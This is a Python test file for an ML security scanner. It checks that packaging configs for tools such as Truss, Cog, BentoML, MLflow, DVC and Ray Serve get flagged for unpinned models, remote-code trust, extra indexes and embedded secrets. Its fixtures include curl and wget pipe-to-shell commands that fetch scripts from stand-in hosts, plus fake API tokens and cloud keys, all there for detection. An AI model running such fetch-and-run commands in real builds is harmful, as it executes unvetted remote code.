"""Files of packaging tools say what an image is built from, fetches and holds."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from mlsec.core.resource import Resource
from tests.servers.config.declared import seen

COMMIT = "0123456789abcdef0123456789abcdef01234567"
KEY = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz12345678"


def package(folder: Path, name: str, text: str) -> Resource:
    found = seen(folder, {name: text}).inventory.resources
    (resource,) = [each for each in found if each.type == "code.dockerfile"]
    return resource


def pinned(resource: Resource) -> list[tuple[Any, Any]]:
    return [(each["name"], each["is_pinned"]) for each in resource.properties["models"]]


def signs(resource: Resource) -> list[str]:
    return [each["pattern"] for each in resource.properties["suspicious_patterns"]]


def test_a_truss_names_its_models_with_a_commit_or_without(tmp_path: Path) -> None:
    text = (
        "model_name: m\nresources: {}\nmodel_cache:\n  - repo_id: a/one\n    revision: main\n"
        f"  - repo_id: a/two\n    revision: {COMMIT}\n  - repo_id: gs://bucket/x\n    kind: gcs\n"
        "trt_llm:\n  build:\n    checkpoint_repository:\n      source: HF\n      repo: a/three\n"
    )
    found = pinned(package(tmp_path, "config.yaml", text))
    assert found == [("a/one", False), ("a/two", True), ("a/three", False)]


def test_a_server_that_a_truss_starts_says_which_model_and_whose_code_it_runs(
    tmp_path: Path,
) -> None:
    text = (
        "model_name: m\nresources: {}\nbase_image:\n  image: vllm/vllm-openai:v0.9\n"
        "docker_server:\n  start_command: vllm serve a/one --trust-remote-code --port 8000\n"
    )
    (model,) = package(tmp_path, "config.yaml", text).properties["models"]
    assert (model["name"], model["is_pinned"], model["runs_code"]) == ("a/one", False, True)


def test_what_a_build_installs_is_looked_at_as_in_a_dockerfile(tmp_path: Path) -> None:
    text = (
        "model_name: m\nresources: {}\nrequirements:\n  - git+https://example.invalid/a/b\n"
        "build_commands:\n  - curl https://example.invalid/x.sh | bash\n"
    )
    found = package(tmp_path, "config.yaml", text)
    assert signs(found) == ["pipe-to-shell", "unpinned-download"]


@pytest.mark.parametrize(
    ("name", "text", "sign"),
    [
        (
            "cog.yaml",
            "build:\n  run:\n    - command: curl https://a.invalid/x | sh\npredict: p.py:P\n",
            "pipe-to-shell",
        ),
        (
            "bentofile.yaml",
            (
                "service: a:b\npython:\n  packages: [torch]\n"
                "  extra_index_url: [https://a.invalid/simple]\n"
            ),
            "extra-index",
        ),
        (
            "MLproject",
            "name: p\nentry_points:\n  main:\n    command: wget -qO- http://a.invalid/x | bash\n",
            "pipe-to-shell",
        ),
        (
            "dvc.yaml",
            "stages:\n  get:\n    cmd: git clone https://a.invalid/data\n",
            "unpinned-download",
        ),
        (
            "serve.yaml",
            (
                "applications:\n  - name: a\n    import_path: a:b\n    runtime_env:\n"
                "      pip: ['git+https://a.invalid/x']\n"
            ),
            "unpinned-download",
        ),
        (
            "serve.yaml",
            (
                "applications:\n  - name: a\n    import_path: a:b\n    runtime_env:\n"
                "      working_dir: https://github.com/a/b/archive/refs/heads/main.zip\n"
            ),
            "unpinned-download",
        ),
    ],
)
def test_each_tool_has_a_place_for_what_it_fetches(
    name: str, text: str, sign: str, tmp_path: Path
) -> None:
    assert sign in signs(package(tmp_path, name, text))


def test_a_key_among_the_variables_is_found_and_an_empty_one_is_none(tmp_path: Path) -> None:
    text = (
        "model_name: m\nresources: {}\nenvironment_variables:\n"
        f"  HF_TOKEN: {KEY}\n  OTHER_TOKEN: null\n"
    )
    found = package(tmp_path, "config.yaml", text).properties["secrets"]
    assert [each["name"] for each in found] == ["HF_TOKEN"]


def test_a_remote_of_dvc_with_a_key_is_an_environment_file_with_a_secret(tmp_path: Path) -> None:
    text = (
        "['remote \"s\"']\n    url = s3://bucket/data\n"
        "    access_key_id = AKIAQYLPMN5HXR3TJ4ZA\n"
        "    secret_access_key = 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\n"
    )
    found = seen(tmp_path, {".dvc/config": text}).inventory.resources
    (resource,) = [each for each in found if each.type == "code.environment_file"]
    assert "secret_access_key" in [each["name"] for each in resource.properties["secrets"]]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("config.yaml", "resources:\n  limits: {}\nreplicas: 1\n"),
        ("a.yaml", "applications:\n  - name: shop\n"),
        ("config.yaml", "model_name: m\n"),
    ],
)
def test_settings_of_other_tools_are_not_taken_for_one(
    name: str, text: str, tmp_path: Path
) -> None:
    found = seen(tmp_path, {name: text}).inventory.resources
    assert not [each for each in found if each.type == "code.dockerfile"]
